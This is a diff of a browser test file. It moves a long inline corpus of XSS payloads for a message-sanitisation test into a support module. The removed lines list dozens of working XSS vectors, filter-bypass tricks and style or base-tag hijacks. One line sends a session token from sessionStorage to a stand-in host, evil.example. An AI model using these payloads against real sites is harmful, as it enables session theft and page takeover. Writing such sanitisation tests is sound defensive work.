@@ -9,67 +9,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { launch, openTab } from './support/browser.js';
 import { login } from './support/console.js';
 import { startWorld, type World } from './support/platform.js';
+import { PAYLOADS, RUN } from './support/xss-corpus.js';
 
-const RUN = 'window.__xss=(window.__xss||0)+1';
-
-/** Known payloads: event handlers, javascript: and data: URLs, svg, noscript/textarea tricks, entity-encoded schemes, mutation XSS. */
-const PAYLOADS = [
-  `<script>${RUN}</script>`,
-  `<img src=x onerror=${RUN}>`,
-  `<img src='x' onerror='${RUN}'>`,
-  `<img src="x" onerror="${RUN}">`,
-  `<IMG SRC="x" ONERROR="${RUN}">`,
-  `<img src='x'onerror='${RUN}'>`,
-  `<img src=\`x\` onerror=${RUN}>`,
-  `<img src='javascript:${RUN}'>`,
-  `<img src='jav&#x61;script:${RUN}'>`,
-  `<img src='jav&#97;script:${RUN}'>`,
-  `<img src='&#106;avascript:${RUN}'>`,
-  `<img src=' javascript:${RUN}'>`,
-  `<img src='data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>'>`,
-  `<img src='data:text/html,<script>${RUN}</script>'>`,
-  `<img src='//evil.example/x.gif' onload='${RUN}'>`,
-  `<img src='https://evil.example/x.gif' onerror='${RUN}'>`,
-  `<img src='https://evil.example/x.gif'/onerror='${RUN}'>`,
-  `<img src="https://evil.example/a.gif" style="position:fixed;inset:0;width:100vw;height:100vh">`,
-  `<svg onload=${RUN}>`,
-  `<svg><script>${RUN}</script></svg>`,
-  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
-  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
-  `<textarea><img src=x onerror=${RUN}></textarea>`,
-  `<title><img src=x onerror=${RUN}></title>`,
-  `<iframe src="javascript:${RUN}"></iframe>`,
-  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
-  `<object data="javascript:${RUN}"></object>`,
-  `<embed src="javascript:${RUN}">`,
-  `<a href="javascript:${RUN}" id="xss-link">click</a>`,
-  `<form action="javascript:${RUN}"><button id="xss-button">go</button></form>`,
-  `<details open ontoggle=${RUN}>`,
-  `<body onload=${RUN}>`,
-  `<input autofocus onfocus=${RUN}>`,
-  `<video><source onerror=${RUN}></video>`,
-  `<audio src=x onerror=${RUN}>`,
-  `<style>body{display:none}</style>`,
-  `<style>@import 'https://evil.example/x.css';</style>`,
-  `<link rel=stylesheet href=https://evil.example/x.css>`,
-  `<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">`,
-  `<base href="https://evil.example/">`,
-  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
-  `&lt;img src=x onerror=${RUN}&gt;`,
-  `&#60;script&#62;${RUN}&#60;/script&#62;`,
-  `\u003cimg src=x onerror=${RUN}\u003e`,
-  `<img src="x" onerror="fetch('https://evil.example/?t='+sessionStorage.getItem('ewc.auth'))">`,
-  `<img src=x:alert(1) onerror=eval(src)>`,
-  `"><img src=x onerror=${RUN}>`,
-  `'><script>${RUN}</script>`,
-  `<<script>script>${RUN}<</script>/script>`,
-  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
-  `<img src='/::)' onerror='${RUN}'>`,
-  `/::< <img src=x onerror=${RUN}> /:<W>`,
-  `{{constructor.constructor('${RUN}')()}}`,
-  '${' + RUN + '}',
-];
 
 describe('message content never runs or restyles', () => {
   let browser: Browser;
